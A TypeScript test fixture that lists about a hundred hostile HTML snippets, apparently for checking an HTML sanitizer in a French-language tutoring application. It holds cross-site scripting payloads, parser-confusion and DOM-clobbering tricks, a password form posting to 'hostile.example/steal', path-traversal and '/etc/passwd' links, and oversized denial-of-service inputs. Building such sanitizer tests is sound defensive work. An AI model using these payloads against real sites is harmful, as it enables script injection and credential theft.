type HostileHtml = { name: string; html: string }

export const ranFlag = 'hostileHtmlRan'
export const hostileHost = 'hostile.example'

const run = `window.${ranFlag}=1`
const there = `https://${hostileHost}`
const megabyte = 1024 * 1024

const scripts: HostileHtml[] = [
  { name: 'a script', html: `<p>Bonjour</p><script>${run}</script>` },
  { name: 'a script from elsewhere', html: `<script src="${there}/a.js"></script>Suite` },
  { name: 'a module script', html: `<script type="module">${run}</script>` },
  { name: 'a script in odd letters', html: `<ScRiPt\n>${run}</sCrIpT\t>` },
  { name: 'a script within a script', html: `<scr<script>ipt>${run}</scr</script>ipt>` },
  { name: 'a script that is never closed', html: `<p>avant<script>${run}//` },
  { name: 'a script with a null character in its name', html: `<scr\u0000ipt>${run}</scr\u0000ipt>` },
  { name: 'a script in a template', html: `<template><script>${run}</script><img src=x onerror="${run}"></template>` },
  {
    name: 'a declarative shadow root',
    html: `<div><template shadowrootmode="open"><script>${run}</script><style>*{display:none}</style></template></div>`,
  },
  { name: 'an import map', html: `<script type="importmap">{"imports":{"x":"${there}/x.js"}}</script>` },
]

const handlers: HostileHtml[] = [
  { name: 'a broken picture with a handler', html: `<img src="x" onerror="${run}">` },
  { name: 'a handler parted from its name by a slash', html: `<img/src=x/onerror=${run}>` },
  { name: 'a handler in capital letters without quotes', html: `<IMG SRC=x ONERROR=${run}>` },
  { name: 'a handler that waits for focus', html: `<a href="/exams" onfocus="${run}" autofocus tabindex="1">Ici</a>` },
  {
    name: 'a handler on a paragraph',
    html: `<p onclick="${run}" onmouseover="${run}" onpointerenter="${run}">Passe ici</p>`,
  },
  {
    name: 'a handler of an animation',
    html: `<style>@keyframes a{}</style><div style="animation-name:a" onanimationstart="${run}">x</div>`,
  },
  {
    name: 'a handler of a body',
    html: `<body onload="${run}" onpageshow="${run}" onhashchange="${run}"><p>Page</p></body>`,
  },
  { name: 'a handler of details', html: `<details open ontoggle="${run}"><summary>Voir</summary>Texte</details>` },
  {
    name: 'a handler of media',
    html:
      `<video src="${there}/a.mp4" onloadstart="${run}" autoplay><source src="${there}/b.mp4" onerror="${run}">` +
      `</video><audio src=x onerror=${run}>`,
  },
  { name: 'a handler of a marquee', html: `<marquee onstart="${run}">défile</marquee>` },
  { name: 'a handler behind a line break in the tag', html: `<img src=x\nonerror\n=\n"${run}"\n>` },
  { name: 'a handler after a greater-than sign in an attribute', html: `<img alt="a>b" src=x onerror="${run}">` },
  {
    name: 'a popover that opens itself',
    html:
      `<button popovertarget="p" onclick="${run}">ouvrir</button><div popover id="p" ` +
      `onbeforetoggle="${run}">x</div>`,
  },
]

const schemes: HostileHtml[] = [
  { name: 'a javascript link', html: `<a href="javascript:${run}">Ouvre</a>` },
  { name: 'a javascript link in mixed letters', html: `<a href="JaVaScRiPt:${run}">Ouvre</a>` },
  { name: 'a javascript link with a tab', html: `<a href="java\tscript:${run}">Ouvre</a>` },
  { name: 'a javascript link with a line break', html: `<a href="java\nscript:${run}">Ouvre</a>` },
  { name: 'a javascript link by entities', html: `<a href="&#106;&#x61;vascript&colon;${run}">Ouvre</a>` },
  {
    name: 'a javascript link by entities without ends',
    html: `<a href="&#0000106&#0000097&#0000118ascript:${run}">Ouvre</a>`,
  },
  { name: 'a javascript link behind a control character', html: `<a href="\u0001javascript:${run}">Ouvre</a>` },
  { name: 'a javascript link with a null character', html: `<a href="java\u0000script:${run}">Ouvre</a>` },
  { name: 'a javascript link behind white space', html: `<a href=" \u00a0\u2003 javascript:${run}">Ouvre</a>` },
  { name: 'a vbscript link', html: '<a href="vbscript:msgbox(1)">Ouvre</a>' },
  { name: 'a data page as a link', html: `<a href="data:text/html,<script>${run}</script>">Ouvre</a>` },
  {
    name: 'a data page in base 64',
    html: `<a href="data:text/html;base64,${btoa(`<script>${run}</script>`)}">Ouvre</a>`,
  },
  {
    name: 'a data drawing as a picture',
    html: `<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>" alt="dessin">`,
  },
  { name: 'a javascript picture', html: `<img src="javascript:${run}" alt="image">` },
  {
    name: 'a blob, a file and a view-source address',
    html: `<a href="blob:${there}/1">a</a><a href="file:///etc/passwd">b</a><a href="view-source:${there}">c</a>`,
  },
  { name: 'our own link scheme', html: '<a href="tutorat://switch?token=abc&admin_id=1&user_id=2">Récompense</a>' },
]

const elsewhere: HostileHtml[] = [
  {
    name: 'a link to another host',
    html: `<a href="${there}/login" target="_blank" ping="${there}/ping" rel="opener" download>Connecte-toi</a>`,
  },
  {
    name: 'a link without a scheme',
    html: `<a href="//${hostileHost}/a">a</a><a href="/\\${hostileHost}">b</a><a href="\\\\${hostileHost}\\c">c</a>`,
  },
  { name: 'a link that names a user', html: `<a href="https://tutorat.exemple.tn@${hostileHost}/">Tutorat</a>` },
  {
    name: 'a link to this computer',
    html: '<a href="http://127.0.0.1:9222/json">a</a><img src="http://localhost/x.png" alt="b">',
  },
  {
    name: 'a path that ends a payment or changes the person',
    html:
      '<a href="/payment/success?orderId=1">a</a><a href="/switch?token=x&admin_id=1&user_id=2">b</a><a ' +
      'href="/login">c</a>',
  },
  {
    name: 'a path out of ours',
    html:
      '<a href="/../../etc/passwd">a</a><a href="/%2e%2e/%2e%2e/x">b</a><a ' +
      'href="/subjects/..%2f..%2fx/details">c</a>',
  },
  { name: 'a link of ten thousand letters', html: `<a href="/exams?${'a'.repeat(10_000)}">long</a>` },
  { name: 'a picture that counts readers', html: `<img src="${there}/pixel.gif" width="1" height="1">` },
  {
    name: 'pictures by other attributes',
    html:
      `<img srcset="${there}/2x.png 2x" sizes="100vw" alt="a"><img lowsrc="${there}/l.png" ` +
      `dynsrc="${there}/d.avi" alt="b"><picture><source srcset="${there}/s.webp"><img src="${there}/p.png" ` +
      'alt="c"></picture>',
  },
  {
    name: 'a background by attribute',
    html: `<table background="${there}/t.png"><tr><td background="${there}/c.png">1</td></tr></table>`,
  },
  { name: 'a body with a background', html: `<body background="${there}/b.png" text="white" link="white">x</body>` },
  {
    name: 'links and styles of the head',
    html:
      `<link rel="stylesheet" href="${there}/a.css"><link rel="preload" as="image" href="${there}/a.png"><link ` +
      `rel="dns-prefetch" href="${there}">`,
  },
  { name: 'another base', html: `<base href="${there}/" target="_top"><a href="exams">Examens</a>` },
  {
    name: 'a refresh to elsewhere',
    html: `<meta http-equiv="refresh" content="0;url=${there}"><meta http-equiv="Set-Cookie" content="a=b">`,
  },
  { name: 'a manifest and a portal', html: `<html manifest="${there}/m"><portal src="${there}"></portal></html>` },
  {
    name: 'an image map',
    html:
      '<img src="/media/x/y.png" usemap="#m" alt="plan"><map name="m"><area shape="default" ' +
      `href="javascript:${run}" alt="z"></map>`,
  },
  {
    name: 'a reference of another kind',
    html:
      `<a xlink:href="javascript:${run}">a</a><blockquote cite="javascript:${run}">b</blockquote><q ` +
      `cite="${there}">c</q>`,
  },
  {
    name: 'long descriptions',
    html:
      `<img longdesc="${there}/d" src="x" alt="a"><img crossorigin="use-credentials" referrerpolicy="unsafe-url" ` +
      `src="${there}/r.png" alt="b">`,
  },
]

const frames: HostileHtml[] = [
  { name: 'a frame', html: `<iframe src="${there}/"></iframe>` },
  {
    name: 'a frame with a document of its own',
    html: `<iframe srcdoc="<script>parent.${ranFlag}=1</script>"></iframe>`,
  },
  { name: 'a javascript frame', html: `<iframe src="javascript:parent.${ranFlag}=1"></iframe>` },
  {
    name: 'frames of old',
    html: `<frameset onload="${run}"><frame src="javascript:${run}"></frameset><noframes><p>x</p></noframes>`,
  },
  {
    name: 'an object and an embed',
    html:
      `<object data="${there}/a.swf" type="application/x-shockwave-flash"><param name="movie" value="${there}">` +
      `</object><embed src="javascript:${run}"><applet code="x"></applet>`,
  },
  {
    name: 'an object in a document of its own',
    html: `<object data="data:text/html,<script>${run}</script>">autrement</object>`,
  },
  {
    name: 'a fenced frame and a web view',
    html:
      `<fencedframe src="${there}"></fencedframe><webview src="${there}" nodeintegration preload="file:///x.js">` +
      '</webview>',
  },
]

const forms: HostileHtml[] = [
  {
    name: 'a form that asks for the password',
    html:
      `<form action="${there}/steal" method="post"><label>Mot de passe <input type="password" name="p"></label>` +
      '<button>Envoyer</button></form>',
  },
  {
    name: 'buttons that send elsewhere',
    html:
      `<form id="f"></form><button form="f" formaction="javascript:${run}">a</button><input type="image" ` +
      `src="${there}/i.png" formaction="${there}">`,
  },
  {
    name: 'a form that clobbers its attributes',
    html:
      `<form onclick="${run}"><input name="attributes"><input name="nodeName"><input name="removeAttribute">` +
      '<input name="parentNode"><input name="childNodes"></form>',
  },
  {
    name: 'a form within a form through a table',
    html: `<form><table><form onsubmit="${run}"><input name="firstChild"></form></table></form>`,
  },
  {
    name: 'fields of all kinds',
    html:
      '<select autofocus><option>1</option></select><textarea>a</textarea><input type="file"><keygen>' +
      '<output>o</output><datalist id="l"><option value="x"></datalist><progress value="1"></progress>',
  },
  {
    name: 'a dialog that is open',
    html: '<dialog open style="position:fixed;inset:0"><p>Session expirée</p><button autofocus>OK</button></dialog>',
  },
  {
    name: 'text that may be edited',
    html: '<div contenteditable="true" tabindex="0" accesskey="s" draggable="true">Écris ici</div>',
  },
]

const styles: HostileHtml[] = [
  {
    name: 'a style that covers the screen',
    html: '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">Mise à jour requise</div>',
  },
  {
    name: 'a sheet that hides the application',
    html: `<style>body *{visibility:hidden}@import url(${there}/a.css);*{background:url(${there}/b)}</style>Texte`,
  },
  { name: 'a sheet within a select', html: `<select><style></select><img src=x onerror="${run}"></style></select>` },
  {
    name: 'addresses in a style',
    html:
      `<p style="background:url(${there}/x.png);list-style-image:url('${there}/y');cursor:url(${there}/z),auto;` +
      'behavior:url(#default#time2)">x</p>',
  },
  {
    name: 'an expression in a style',
    html: `<p style="width:expression(${run});-moz-binding:url(${there}/x.xml#a)">x</p>`,
  },
  {
    name: 'classes and names of the application',
    html:
      '<div class="ant-modal-mask ant-modal-wrap visually-hidden" id="root" role="dialog" aria-modal="true" ' +
      'data-theme="dark" slot="x" is="x-y" part="p">x</div>',
  },
  {
    name: 'names that clobber the page',
    html:
      '<a id="desktop" name="desktop" href="/exams">1</a><img name="getElementById" id="cookie" alt="2" src="x">' +
      '<form name="body"></form><a id="location"></a><a id="location" name="href" href="/exams">3</a>',
  },
  {
    name: 'fonts and sizes of old',
    html:
      '<font size="7" color="white" face="x">A</font><center><basefont size="7"><big>B</big></center><layer ' +
      'src="x">C</layer><spacer width="9999">',
  },
  {
    name: 'a picture as wide as ten screens',
    html:
      '<img src="x" width="100000" height="100000" border="9999" hspace="9999" alt="grande"><hr width="99999" ' +
      'size="9999">',
  },
  {
    name: 'a cell across a thousand columns',
    html:
      '<table width="99999"><tr><td colspan="1000" rowspan="65534">x</td><td colspan="-1">y</td><td ' +
      'colspan="1e9">z</td></tr></table>',
  },
]

const foreign: HostileHtml[] = [
  { name: 'a drawing with a handler', html: `<svg onload="${run}"><circle r="9"/></svg>` },
  { name: 'a drawing with a script', html: `<svg><script>${run}</script><script href="${there}/a.js"/></svg>` },
  {
    name: 'a drawing that changes a link',
    html:
      `<svg><a><animate attributeName="href" values="javascript:${run}"/><text>x</text></a><set ` +
      `attributeName="onmouseover" to="${run}"/></svg>`,
  },
  {
    name: 'a drawing that uses another',
    html:
      `<svg><use href="${there}/s.svg#x"/><image xlink:href="${there}/i.png"/><feImage href="${there}/f.png"/>` +
      '</svg>',
  },
  {
    name: 'HTML within a drawing',
    html:
      `<svg><foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><img src=x onerror="${run}"><iframe ` +
      `src="${there}"></iframe></body></foreignObject></svg>`,
  },
  {
    name: 'a formula with a link',
    html:
      `<math href="javascript:${run}"><mi xlink:href="javascript:${run}">x</mi><maction ` +
      `actiontype="statusline#${there}">y</maction></math>`,
  },
  {
    name: 'a formula that turns into HTML',
    html: `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  },
  {
    name: 'a formula and a drawing that change places',
    html: `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  },
  { name: 'a style in a drawing', html: `<svg></p><style><a id="</style><img src=1 onerror=${run}>">` },
  {
    name: 'an annotation',
    html:
      `<math><annotation-xml encoding="text/html"><style><img src=x onerror="${run}"></style></annotation-xml>` +
      '</math>',
  },
  { name: 'a description in a drawing', html: `<svg><desc><![CDATA[</desc><script>${run}</script>]]></svg>` },
]

const confusions: HostileHtml[] = [
  { name: 'a noscript', html: `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>` },
  { name: 'a title', html: `<title><a title="</title><img src=x onerror=${run}>"></title>` },
  { name: 'a textarea', html: `<textarea><a title="</textarea><img src=x onerror=${run}>"></textarea>` },
  {
    name: 'an xmp, a listing and plain text',
    html:
      `<xmp><a title="</xmp><img src=x onerror=${run}>"></xmp><listing>&lt;script&gt;${run}</listing><plaintext>` +
      `<script>${run}</script>`,
  },
  {
    name: 'a noembed and a noframes',
    html:
      `<noembed><a title="</noembed><img src=x onerror=${run}>"></noembed><noframes><a title="</noframes>` +
      `<script>${run}</script>">`,
  },
  { name: 'a comment that ends early', html: `<!--><img src=x onerror=${run}>--><!--->b<img src=x onerror=${run}>-->` },
  { name: 'a comment that ends with an exclamation', html: `<!-- a --!><img src=x onerror=${run}><!-- b` },
  {
    name: 'a character section',
    html: `<![CDATA[<script>${run}</script>]]><?xml version="1.0"?><?php echo 1 ?><!DOCTYPE html [<!ENTITY x "y">]>`,
  },
  {
    name: 'condition comments',
    html: `<!--[if gte IE 4]><script>${run}</script><![endif]--><![if true]><script>${run}</script><![endif]>`,
  },
  {
    name: 'tags that break off',
    html: `<p>a<img src=x onerror="${run}" <b>gras</b <i>penché <a href="javascript:${run}`,
  },
  {
    name: 'tags that close nothing',
    html: `</div></div></main></body></html><script>${run}</script><p>dehors</p></p></p>`,
  },
  { name: 'text encoded twice', html: `&lt;script&gt;${run}&lt;/script&gt; &amp;lt;img src=x onerror=${run}&amp;gt;` },
  { name: 'letters as UTF-7', html: `+ADw-script+AD4-${run}+ADw-/script+AD4-` },
  {
    name: 'elements of their own',
    html:
      `<x-card onclick="${run}"><slot name="a"></slot><p is="x-p">x</p></x-card><constructor>y</constructor>` +
      '<__proto__>z</__proto__>',
  },
  {
    name: 'attributes of odd names',
    html: `<p __proto__="x" constructor="y" "onclick"="${run}" \`onclick=${run} onclick\u00a0=${run}>x</p>`,
  },
  { name: 'nested links', html: '<a href="/exams">a<table><tr><td><a href="/offres">b</a></td></tr></table></a>' },
  {
    name: 'placeholders of templates',
    html: '<p>{{constructor.constructor("window.hostileHtmlRan=1")()}} ${window.hostileHtmlRan=1} <%= 1 %></p>',
  },
]

const heavy: HostileHtml[] = [
  { name: 'a megabyte of text', html: `<p>${'mot '.repeat(megabyte / 4)}</p>` },
  { name: 'a megabyte in one word', html: 'x'.repeat(megabyte) },
  { name: 'a megabyte of elements', html: '<b>a</b>'.repeat(megabyte / 8) },
  { name: 'a megabyte in one attribute', html: `<p title="${'y'.repeat(megabyte)}">x</p><script>${run}</script>` },
  { name: 'ten thousand elements in each other', html: `${'<div>'.repeat(10_000)}fond${'</div>'.repeat(10_000)}` },
  { name: 'ten thousand unknown elements in each other', html: `${'<x>'.repeat(10_000)}fond` },
  { name: 'ten thousand lists in each other', html: `${'<ul><li>'.repeat(5000)}fond` },
  { name: 'ten thousand open formats', html: `${'<b><i><p>'.repeat(3000)}fond` },
  { name: 'letters piled up', html: `<p>Z${'\u0301\u0323'.repeat(2000)}</p>` },
]

const directions: HostileHtml[] = [
  {
    name: 'letters turned around',
    html: `<p>\u202egnp.exe\u202c <a href="${there}/\u202emoc.elpmexe">tutorat\u202e</a></p>`,
  },
  {
    name: 'letters turned around by an element',
    html: `<bdo dir="rtl">nt.elpmexe.taroTut</bdo><p dir="rtl">À l’envers</p><p dir="evil">x</p>`,
  },
  { name: 'an isolate that never ends', html: '<p>\u2067\u2066\u2067 ouvert</p><p>suite</p>' },
  { name: 'a language that is none', html: `<p lang='x" onclick="${run}'>x</p><p lang="ar">مرحبا</p>` },
]

export const hostileHtml: readonly HostileHtml[] = [
  ...scripts,
  ...handlers,
  ...schemes,
  ...elsewhere,
  ...frames,
  ...forms,
  ...styles,
  ...foreign,
  ...confusions,
  ...heavy,
  ...directions,
]
